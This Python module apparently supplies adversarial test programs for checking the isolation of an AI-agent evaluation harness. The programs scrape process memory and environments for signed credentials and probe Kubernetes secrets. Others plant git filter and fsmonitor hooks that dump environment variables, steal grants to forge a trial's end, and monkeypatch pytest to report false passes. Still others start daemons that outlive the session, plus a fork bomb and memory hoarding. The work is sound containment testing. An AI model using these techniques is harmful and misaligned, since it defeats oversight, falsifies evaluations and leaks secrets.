"""What hostile agents run. Each is a whole program for the task's Python; the last line that it prints is JSON."""

from __future__ import annotations

# Until /trialfleet/agent/go is there.
WAIT = r"""
import os, time
os.mkdir("/trialfleet/agent/ready")
until = time.time() + 150
while not os.path.exists("/trialfleet/agent/go") and time.time() < until:
    time.sleep(0.1)
"""

# Looks for the grants and for ways out, and tries to write everywhere.
# argv[1]: JSON of api, namespace, addresses, endpoint, own, other, grants (the last three are below the endpoint).
LOOK = r"""
import ctypes, json, os, re, socket, ssl, stat, sys, urllib.error, urllib.request

told = json.loads(sys.argv[1])
SIGNED, MARK = re.compile(rb"X-Amz-Signature=[0-9a-f]{32}"), "left-" + "behind"
found, said = set(), {}


def read(path, limit=2**20):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def memory(pid):
    for line in read(f"/proc/{pid}/maps").decode().splitlines():
        span, mode = line.split()[:2]
        start, end = (int(x, 16) for x in span.split("-"))
        if mode.startswith("rw") and end - start < 2**27:
            try:
                with open(f"/proc/{pid}/mem", "rb") as file:
                    file.seek(start)
                    yield file.read(end - start)
            except OSError:
                pass


for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid != os.getpid():
        found |= {"environ"} if SIGNED.search(read(f"/proc/{pid}/environ")) else set()
        found |= {"arguments"} if SIGNED.search(read(f"/proc/{pid}/cmdline")) else set()
        found |= {"memory"} if any(map(SIGNED.search, memory(pid))) else set()
found |= {"env"} if SIGNED.search(json.dumps(dict(os.environ)).encode()) else set()
libc = ctypes.CDLL(None, use_errno=True)
said["ptrace"] = libc.ptrace(16, 1, 0, 0) == 0

for root in ("/trialfleet", "/tmp", "/dev", "/run", "/var", "/etc", "/home", "/opt/trialfleet"):
    for folder, _, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            if stat.S_ISREG(os.lstat(path).st_mode) and SIGNED.search(read(path)):
                found.add("file")

home, workspace, venv = os.environ["HOME"], os.getcwd(), os.environ["VIRTUAL_ENV"]
volumes = [f"/trialfleet/{name}" for name in ("runner", "agent", "agent-gate", "score", "score-gate", "keys")]
places = ["/", "/etc", "/usr/local/bin", "/opt/trialfleet", venv, f"{venv}/bin", "/run", "/home", "/var/tmp",
          "/sys/fs/cgroup/memory", "/tmp", "/dev/shm", home, workspace, *volumes]
said["visible"] = [place for place in volumes if os.path.exists(place)]
said["remains"] = [place for place in places if os.path.exists(f"{place}/{MARK}")]
said["written"] = []
for place in places:
    try:
        with open(f"{place}/{MARK}", "w") as file:
            file.write(MARK)
        said["written"].append(place)
    except OSError:
        pass
said["remains after"] = [place for place in places if os.path.exists(f"{place}/{MARK}")]
for path in ("/proc/sys/kernel/core_pattern", "/etc/hosts", "/dev/termination-log", "/root/termination-log"):
    try:
        open(path, "a").close()
        said["written"].append(path)
    except OSError:
        pass

said["gates"] = {}
for role in ("agent", "score"):
    try:
        with socket.socket(socket.AF_UNIX) as gate:
            gate.connect(f"/trialfleet/{role}-gate/gate.sock")
        said["gates"][role] = "connected"
    except OSError as error:
        said["gates"][role] = type(error).__name__

said["descriptors"] = []
for fd in range(3, 256):
    try:
        os.write(fd, b"exit 0 0.0 0\n")
        said["descriptors"].append(fd)
    except OSError:
        pass


def ask(method, url, data=None, **headers):
    context = ssl._create_unverified_context() if url.startswith("https") else None
    request = urllib.request.Request(url, data, headers, method=method)
    try:
        # what can be reached at all may be slow on a busy machine
        patience = 20 if urllib.parse.urlsplit(url).hostname in said.get("reached", ()) else 5
        with urllib.request.urlopen(request, timeout=patience, context=context) as answer:
            if SIGNED.search(answer.read()):
                found.add("api")
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return None


said["reached"] = []
for host, port in told["addresses"]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        said["reached"].append(host)
    except OSError:
        pass

token = read("/var/run/secrets/kubernetes.io/serviceaccount/token").decode()
as_account = {"Authorization": f"Bearer {token}"} if token else {}
said["token"] = bool(token)
base = f"{told['api']}/api/v1/namespaces/{told['namespace']}"
pod = json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "hostile"}, "spec": {"containers": []}})
asked = {
    "list pods": ("GET", f"{base}/pods"),
    "read own pod": ("GET", f"{base}/pods/{socket.gethostname()}"),
    "read own log": ("GET", f"{base}/pods/{socket.gethostname()}/log?container=runner"),
    "delete own pod": ("DELETE", f"{base}/pods/{socket.gethostname()}?dryRun=All"),
    "create pods": ("POST", f"{base}/pods", pod.encode()),
    "list secrets": ("GET", f"{base}/secrets"),
    "list config maps": ("GET", f"{base}/configmaps"),
    "list jobs": ("GET", f"{told['api']}/apis/batch/v1/namespaces/{told['namespace']}/jobs"),
    "list nodes": ("GET", f"{told['api']}/api/v1/nodes"),
}
json_type = {"Content-Type": "application/json"}
said["api"] = {what: ask(*how, **as_account, **json_type) for what, how in asked.items()}
said["store"] = {
    "write own": ask("PUT", f"{told['endpoint']}/{told['own']}", b"{}"),
    "write other": ask("PUT", f"{told['endpoint']}/{told['other']}", b"{}"),
    "delete own": ask("DELETE", f"{told['endpoint']}/{told['own']}"),
    "read grants": ask("GET", f"{told['endpoint']}/{told['grants']}"),
    "list": ask("GET", f"{told['endpoint']}/{told['own'].split('/')[0]}"),
}

print(json.dumps({"found": sorted(found), **said}))
"""

# Plants links, a pipe and git settings where the runner will read; then waits for /trialfleet/agent/go.
PLANT = (
    r"""
import os
home = os.environ["HOME"]
for name, target in {"sqlparse/planted.py": "/proc/self/environ", "planted": "/trialfleet/runner",
                     "CREDITS": "/proc/1/environ", f"{home}/hook.jsonl": "/proc/self/environ"}.items():
    os.symlink(target, name)
os.mkfifo("pipe")
with open("sqlparse/cli.py", "a") as file:
    file.write("# changed\n")
leak = "sh -c 'env; cat /proc/1/environ; cat'"
with open(".gitattributes", "w") as file:
    file.write("* filter=leak diff=leak\n")
with open(".git/config", "a") as file:
    file.write(f'[filter "leak"]\n\tclean = "{leak}"\n\tsmudge = "{leak}"\n\trequired = true\n')
    file.write(f'[diff "leak"]\n\ttextconv = "{leak}"\n\tcommand = "{leak}"\n[core]\n\tfsmonitor = "{leak}"\n')
"""
    + WAIT
)

# What can be connected to, of JSON in argv[1]: name -> (host, port).
TRY = r"""
import json, socket, sys, threading
reached = set()
def reach(name, address):
    try:
        socket.create_connection(address, timeout=5).close()
        reached.add(name)
    except OSError:
        pass
tries = [threading.Thread(target=reach, args=(n, tuple(at))) for n, at in json.loads(sys.argv[1]).items()]
for each in tries:
    each.start()
for each in tries:
    each.join()
print(json.dumps(sorted(reached)))
"""

# The same once it is let go by /trialfleet/agent/go.
REACH = WAIT + TRY

# Replaces the folders that the runner will read by links to what it alone can see.
SWAP = (
    r"""
import os
os.chdir("/trialfleet/agent")
os.rename("workspace", "was")
os.symlink("/proc/self", "workspace")
os.rename("home", "gone")
os.symlink("/trialfleet/keys", "home")
"""
    + WAIT
)

# Takes the grants from the first process and commits the end of its trial itself, twice.
# argv[1]: the forged end.
STEAL = r"""
import json, sys, urllib.error, urllib.request
environ = dict(pair.split("=", 1) for pair in open("/proc/1/environ").read().split("\0") if "=" in pair)
grants = json.load(urllib.request.urlopen(environ["TRIALFLEET_" + "GRANTS_URL"]))
answers = []
for _ in range(2):
    end = grants["end"]
    put = urllib.request.Request(end["url"], sys.argv[1].encode(), end["headers"], method="PUT")
    try:
        answers.append(urllib.request.urlopen(put).status)
    except urllib.error.HTTPError as error:
        answers.append(error.code)
print(json.dumps(answers))
"""

# Every file that an agent may write and that somebody could take for a verdict.
FORGE = r"""
import json, os
case = '<testcase classname="tests.test_regressions" name="test_issue9"/>'
passed = f'<testsuites><testsuite tests="1">{case}</testsuite></testsuites>'
always = '''
import sys
def lie():
    from _pytest.reports import TestReport
    made = TestReport.from_item_and_call.__func__
    def passed(cls, item, call):
        report = made(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report
    TestReport.from_item_and_call = classmethod(passed)
if "_pytest.reports" in sys.modules or "pytest" in sys.argv[0]:
    lie()
'''
home = os.environ["HOME"]
site = f"{home}/.local/lib/python3.11/site-packages"
os.makedirs(site)
for path in ("conftest.py", "tests/conftest.py", "tests/__init__.py", "sitecustomize.py", "usercustomize.py",
             f"{site}/usercustomize.py", "pytest.py"):
    open(path, "w").write(always)
open("pytest.ini", "w").write("[pytest]\naddopts = --collect-only\n")
open("tests/test_regressions.py", "w").write("def test_issue9(): pass\n")
for folder in (".", home, "/tmp", "/dev/shm"):
    open(f"{folder}/junit.xml", "w").write(passed)
    for name in ("scored.json", "end.json", "patch.json"):
        open(f"{folder}/{name}", "w").write('{"verdict": "passed"}')
print("exit 0 0.0 0", json.dumps({"verdict": "passed"}), flush=True)
"""

# What FORGE cannot reach any more, the code under test can: it runs in the tests' process. It changes only
# tests that it knows, so that tests that must fail do not show it.
_PASSED = 'report.outcome, report.longrepr = "passed", None'
_KNOWN = 'if item.nodeid.startswith("tests/test_regressions.py::"):'
FORGE_IN_CODE = (
    FORGE.split("'''", 2)[1].replace(_PASSED, f"{_KNOWN} {_PASSED}").join(("always = '''", "'''\n"))
    + r"""
with open("sqlparse/__init__.py", "a") as file:
    file.write(always)
"""
)

# What waits in the scoring container besides the patch, told over that container's own termination message.
# The agent leaves a note wherever it may write; patched code looks for it.
NOTE = r"""
import os
places = ("/tmp", "/dev/shm", os.environ["HOME"], "/trialfleet/agent")
for place in places:
    open(f"{place}/note", "w").write("note")
look = f'''
import os
with open("/dev/termination-log", "w") as file:
    file.write("looked: " + " ".join(p for p in {places!r} if os.path.exists(p + "/note")))
'''
with open("sqlparse/__init__.py", "a") as file:
    file.write(look)
"""

# Daemons of sessions of their own, beating in the container's termination message; the program hears no SIGTERM.
OUTLIVE = r"""
import json, os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
print(json.dumps(time.time()), flush=True)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        message = os.open("/dev/termination-log", os.O_WRONLY)
        while True:
            os.pwrite(message, b"%020.6f" % time.time(), 0)  # whole at every moment: it is killed at any
            time.sleep(0.1)
time.sleep(600)
"""

# argv: a file, MiB to write to it, seconds to stay.
FILL = r"""
import json, sys, time
with open(sys.argv[1], "wb") as file:
    for _ in range(int(sys.argv[2])):
        file.write(b"x" * 2**20)
print(json.dumps("written"), flush=True)
time.sleep(float(sys.argv[3]))
"""

# argv: MiB to hold.
HOARD = r"""
import json, sys
held = b"x" * (int(sys.argv[1]) * 2**20)
print(json.dumps(len(held)))
"""

# The same in a file that no process has in its account.
HOARD_FILE = r"""
import json, os, sys
chunk, fd = os.urandom(2**20), os.memfd_create("held")
held = sum(os.write(fd, chunk) for _ in range(int(sys.argv[1])))
print(json.dumps(held))
"""

# Forks for as long as the kernel lets it, in every process. The first comes to the bound almost alone: with a
# thousand that fork beside it, its time may be over before.
BOMB = r"""
import json, os, time
first = os.getpid()
while True:
    try:
        if os.fork() == 0:
            time.sleep(1)
    except OSError as error:
        if os.getpid() == first:
            print(json.dumps(error.strerror), flush=True)
        time.sleep(1)
"""
